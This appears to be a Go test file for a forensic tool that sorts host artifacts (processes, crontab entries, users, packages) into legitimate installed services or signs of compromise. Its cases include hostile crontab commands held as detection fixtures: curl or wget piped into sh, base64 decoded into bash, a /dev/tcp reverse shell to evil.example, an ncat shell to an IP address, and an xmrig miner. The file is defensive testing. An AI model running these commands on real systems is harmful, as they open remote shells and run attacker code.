package analyze

import (
	"testing"

	"github.com/diffy-dfir/diffy/collect"
	"github.com/diffy-dfir/diffy/payload"
)

// TestInstalled checks deployModel.installed, test 7 of findCampaigns,
// row by row: what a service installed by a package or configuration
// management leaves, and what persists, lets someone in or was dropped
// where anyone can write.
func TestInstalled(t *testing.T) {
	d := &deployModel{dirs: map[string]bool{"/usr/local/bin": true}}
	// The group's processes' uids and executables.
	gr := group{runAs: map[string]bool{"113": true, "1001": true}, exes: map[string]bool{"falcond": true, "perl": true}}
	proc := func(path, cmdline string) collect.Row {
		return collect.Row{"name": "x", "path": path, "cmdline": cmdline, "uid": "0"}
	}
	user := func(uid, shell string) collect.Row {
		return collect.Row{"username": "svc", "uid": uid, "gid": uid, "directory": "/var/lib/svc", "shell": shell}
	}
	for _, c := range []struct {
		why  string
		cmd  string
		row  collect.Row
		want bool
	}{
		{"a package's daemon", payload.Processes, proc("/usr/sbin/zabbix_agentd", "/usr/sbin/zabbix_agentd -c /etc/zabbix/zabbix_agentd.conf"), true},
		{"an add-on package under /opt", payload.Processes, proc("/opt/datadog-agent/bin/agent/agent", "/opt/datadog-agent/bin/agent/agent run -p /opt/datadog-agent/run/agent.pid"), true},
		{"a snap", payload.Processes, proc("/snap/amazon-ssm-agent/9881/amazon-ssm-agent", "/snap/amazon-ssm-agent/9881/amazon-ssm-agent"), true},
		{"a kernel thread (no file)", payload.Processes, proc("", "[falcon_kal]"), true},
		{"its listener", payload.ListeningPorts, collect.Row{"address": "0.0.0.0", "port": "41237", "protocol": "6", "name": "agent", "path": "/opt/vendor/bin/agent", "cmdline": "/opt/vendor/bin/agent"}, true},
		{"/usr/local where the fleet's executables run", payload.Processes, proc("/usr/local/bin/exporter", "/usr/local/bin/exporter --web.listen-address=:9256"), true},
		{"/usr/local where the fleet runs nothing", payload.Processes, proc("/usr/local/sbin/sshd", "/usr/sbin/sshd -D"), false},
		{"a temporary directory", payload.Processes, proc("/tmp/kdevtmpfsi", "/tmp/kdevtmpfsi"), false},
		{"a hidden directory in a package tree", payload.Processes, proc("/usr/lib/.x/dbused", "/usr/lib/.x/dbused"), false},
		{"a hidden file", payload.Processes, proc("/usr/bin/.sshd", "/usr/bin/.sshd"), false},
		{"a deleted binary", payload.Processes, proc("/usr/bin/agent (deleted)", "/usr/bin/agent"), false},
		{"a path that is not clean", payload.Processes, proc("/usr/bin/../../tmp/x", "x"), false},
		{"a relative path", payload.Processes, proc("usr/bin/x", "x"), false},
		{"outside every tree", payload.Processes, proc("/etc/cron.d/x", "/etc/cron.d/x"), false},
		{"an interpreter running a script from /dev/shm", payload.Processes, proc("/usr/bin/python3", "/usr/bin/python3 /dev/shm/x.py"), false},
		{"a flag naming a home", payload.Processes, proc("/usr/bin/agent", "/usr/bin/agent --config=/home/eve/c.json"), false},
		{"a flag naming a hidden file", payload.Processes, proc("/usr/bin/agent", "/usr/bin/agent -c /etc/.c.json"), false},
		{"a relative executable", payload.Processes, proc("/usr/bin/xmrig", "./xmrig -o pool:443"), false},
		{"a kernel module", payload.KernelModules, collect.Row{"name": "falcon_kal", "used_by": "-", "status": "Live"}, true},
		{"a deb package's record", payload.DebPackages, collect.Row{"name": "zabbix-agent2", "version": "1:6.0.14-1", "arch": "amd64", "source": "zabbix"}, true},
		{"an rpm package's record", payload.RpmPackages, collect.Row{"name": "zabbix-agent2", "version": "6.0.14", "release": "1.el9", "arch": "x86_64"}, true},
		{"a system user", payload.Users, user("998", "/usr/sbin/nologin"), true},
		{"a system user with /bin/false", payload.Users, user("112", "/bin/false"), true},
		{"a system uid with a login shell", payload.Users, user("998", "/bin/bash"), false},
		{"a system uid with a login shell a process of the group runs as", payload.Users, user("113", "/bin/bash"), true},
		{"a login uid a process of the group runs as", payload.Users, user("1001", "/bin/bash"), false},
		{"a login user", payload.Users, user("1001", "/usr/sbin/nologin"), false},
		{"a second uid 0", payload.Users, user("0", "/usr/sbin/nologin"), false},
		{"nobody's uid", payload.Users, user("65534", "/usr/sbin/nologin"), false},
		{"a uid that is no number", payload.Users, user("x", "/usr/sbin/nologin"), false},
		{"a flag naming its temporary directory", payload.Processes, proc("/usr/share/elasticsearch/jdk/bin/java", "/usr/share/elasticsearch/jdk/bin/java -Djava.io.tmpdir=/tmp/elasticsearch-1234 -Xms512m"), true},
		{"a --tmpdir flag", payload.Processes, proc("/usr/bin/agent", "/usr/bin/agent --tmp-dir=/var/tmp"), true},
		{"a hidden temporary directory", payload.Processes, proc("/usr/bin/java", "/usr/bin/java -Djava.io.tmpdir=/dev/shm/.x -jar /usr/share/x.jar"), false},
		{"a temporary directory beside a jar dropped in /tmp", payload.Processes, proc("/usr/bin/java", "/usr/bin/java -Djava.io.tmpdir=/tmp -jar /tmp/x.jar"), false},
		{"another flag naming /tmp", payload.Processes, proc("/usr/bin/java", "/usr/bin/java -javaagent=/tmp/a.jar -jar /usr/share/x.jar"), false},
		{"a path through bin/..", payload.Processes, proc("/usr/lib/jvm/java-17-openjdk-amd64/bin/java", "java -Dkafka.logs.dir=/opt/kafka/bin/../logs -cp /opt/kafka/bin/../libs/kafka.jar kafka.Kafka"), true},
		{"a path climbing into /tmp", payload.Processes, proc("/usr/bin/python3", "/usr/bin/python3 /usr/lib/../../tmp/x.py"), false},
		{"a package's crontab line", payload.Crontab, collect.Row{"minute": "*/5", "command": "root if [ -x /etc/munin/plugins/apt_all ]; then munin-run apt_all update 7200 12 >/dev/null; fi", "path": "/etc/cron.d/munin-node"}, true},
		{"an agent's update line", payload.Crontab, collect.Row{"minute": "*/5", "command": "root /usr/bin/agent --update", "path": "/etc/cron.d/agent"}, true},
		{"a watchdog starting the group's daemon again", payload.Crontab, collect.Row{"minute": "*/10", "command": "root /opt/CrowdStrike/falcond --check >/dev/null 2>&1", "path": "/etc/cron.d/falcon-check"}, false},
		{"a watchdog by name", payload.Crontab, collect.Row{"minute": "*/10", "command": "root pgrep -x falcond || falcond", "path": "/etc/cron.d/falcon"}, false},
		{"a user's crontab", payload.Crontab, collect.Row{"minute": "*/5", "command": "/usr/bin/agent --update", "path": "/var/spool/cron/crontabs/root"}, false},
		{"/etc/crontab", payload.Crontab, collect.Row{"minute": "*/5", "command": "root /usr/bin/agent --update", "path": "/etc/crontab"}, false},
		{"a file below /etc/cron.d", payload.Crontab, collect.Row{"minute": "*/5", "command": "root /usr/bin/agent", "path": "/etc/cron.d/../crontab"}, false},
		{"curl piped into sh", payload.Crontab, collect.Row{"minute": "*/5", "command": "root curl -fsSL http://x.duckdns.org/i.sh | sh", "path": "/etc/cron.d/sysstat-abc"}, false},
		{"a URL", payload.Crontab, collect.Row{"minute": "*/5", "command": "root /usr/bin/wget -q -O /var/lib/x https://pastebin.com/raw/abc", "path": "/etc/cron.d/php"}, false},
		{"a blob decoded into bash", payload.Crontab, collect.Row{"minute": "*/5", "command": "root echo aGVsbG8K | base64 -d |bash", "path": "/etc/cron.d/0ab"}, false},
		{"a reverse shell", payload.Crontab, collect.Row{"minute": "*", "command": "root /bin/bash -c 'bash -i >& /dev/tcp/evil.example/443 0>&1'", "path": "/etc/cron.d/certbot-x"}, false},
		{"an address", payload.Crontab, collect.Row{"minute": "*", "command": "root /usr/bin/ncat 45.9.148.3 4444 -e /bin/sh", "path": "/etc/cron.d/certbot-x"}, false},
		{"a binary dropped in /dev/shm", payload.Crontab, collect.Row{"minute": "*", "command": "root /dev/shm/.abc/upd > /dev/null 2>&1", "path": "/etc/cron.d/apt-compat-x"}, false},
		{"an authorized key", payload.AuthorizedKeys, collect.Row{"username": "root", "algorithm": "ssh-ed25519", "key": "AAAA", "key_file": "/root/.ssh/authorized_keys"}, false},
		{"a command test 7 does not know", "systemd_units", collect.Row{"id": "agent.service"}, false},
	} {
		if got := d.installed(c.cmd, RowKey(c.row), gr); got != c.want {
			t.Errorf("%s: %s row %v: installed %v, want %v", c.why, c.cmd, c.row, got, c.want)
		}
	}
}
